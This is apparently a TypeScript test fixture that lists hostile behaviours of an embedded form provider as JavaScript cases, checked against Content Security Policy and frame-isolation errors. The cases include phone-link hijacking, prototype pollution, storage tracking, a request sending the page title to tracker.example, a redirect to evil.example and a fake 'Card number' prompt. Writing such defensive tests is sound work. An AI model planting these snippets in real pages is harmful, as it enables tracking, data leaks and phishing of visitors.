// What a hostile form provider does, as a list. Each case calls done() when it has done its work.

type Case = readonly [what: string, code: string, expectedLines: readonly RegExp[]]

/** Scripts that the provider runs on the page. */
export const scripts: readonly Case[] = [
  [
    'changes what it can reach: fetch, history, timers, the title, the phone number, the name of the tab',
    `window.fetch = history.pushState = window.setTimeout = () => undefined
     window.name = "Hostile"
     setInterval(() => {
       document.title = "Hostile"
       for (const link of document.querySelectorAll('a[href^="tel:"]')) link.href = "tel:+19005550000"
     }, 10)
     done()`,
    [],
  ],
  ['adds properties to every object', 'Object.prototype.polluted = "x"; Object.prototype.href = "x"; done()', [/./]],
  [
    'stores the visitor’s name in every place that a browser has',
    `document.cookie = "name=Jane; path=/; max-age=9999"
     localStorage.name = sessionStorage.name = "Jane"
     const stored = (request) => new Promise((resolve) => (request.onsuccess = resolve))
     Promise.all([
       stored(indexedDB.open("Jane")),
       caches.open("Jane").then((cache) => cache.put("/jane", new Response("Jane"))),
       navigator.storage.getDirectory().then((root) => root.getFileHandle("jane", { create: true })),
     ]).then(done)`,
    [],
  ],
  [
    'registers a service worker from a file of the site',
    `navigator.serviceWorker.register(document.querySelector("script[src]").src).catch(() => done())`,
    [/Content Security Policy/],
  ],
  ['throws', 'queueMicrotask(done); throw new Error("provider")', [/^page error: provider/]],
  ['does nothing', 'done()', []],
  [
    'throws in every callback',
    'setInterval(() => { done(); throw new Error("provider") }, 20)',
    [/^page error: provider/],
  ],
  [
    'rejects 200 promises',
    'for (let i = 0; i < 200; i++) Promise.reject(new Error("provider")); done()',
    [/^page error: provider/],
  ],
  ['keeps the page busy', 'const end = Date.now() + 500; while (Date.now() < end); done()', []],
  [
    'floods the page with messages',
    'for (let i = 0; i < 3000; i++) postMessage({ type: "secure-form-height", height: i }, "*"); done()',
    [],
  ],
  [
    'adds inline scripts and styles',
    `const s = document.createElement("script"); s.textContent = "window.injected = true"; document.head.append(s)
     document.body.setAttribute("style", "display: none"); done()`,
    [/Content Security Policy/],
  ],
  [
    'sends data to another origin',
    `new Image().src = "https://tracker.example/p.gif"
     fetch("https://tracker.example/?" + document.title).catch(() => done())`,
    [/Content Security Policy/, /tracker\.example/],
  ],
]

const heights = '(height) => parent.postMessage({ type: "secure-form-height", height }, "*")'

/** Scripts in the provider's frame. */
export const frames: readonly Case[] = [
  ['reports a huge height', `(${heights})(1e9); parent.postMessage("setHeight:999999999:x", "*"); done()`, []],
  [
    'reports heights that are not positive numbers',
    `for (const height of [-1, NaN, Infinity, "9e9", {}, null]) (${heights})(height); done()`,
    [],
  ],
  [
    'floods the page with messages',
    `let rounds = 0
     const flood = () => { for (let i = 0; i < 100; i++) (${heights})(300 + i); if (++rounds === 3) done() }
     setInterval(flood, 20)`,
    [],
  ],
  // The page still answers, because the frame has a process of its own.
  [
    'is busy for ten seconds',
    'setTimeout(() => { done(); const end = Date.now() + 10000; while (Date.now() < end); }, 50)',
    [],
  ],
  [
    'starts a download',
    `const link = document.createElement("a"); link.href = "data:text/plain,x"; link.download = "invoice.txt"
     link.click(); done()`,
    [/download/i],
  ],
  [
    'navigates the tab to another site',
    'try { top.location = "https://evil.example/" } catch {} ; done()',
    [/navigat/i],
  ],
  [
    'tries to change the page around it',
    'try { top.document.body.innerHTML = "" } catch {} ; try { parent.document.title = "" } catch {} ; done()',
    [],
  ],
  [
    'opens dialogs',
    'done(); alert("Pay here"); confirm("Sure?"); prompt("Card number")',
    [/dialog|alert|confirm|prompt/i],
  ],
]
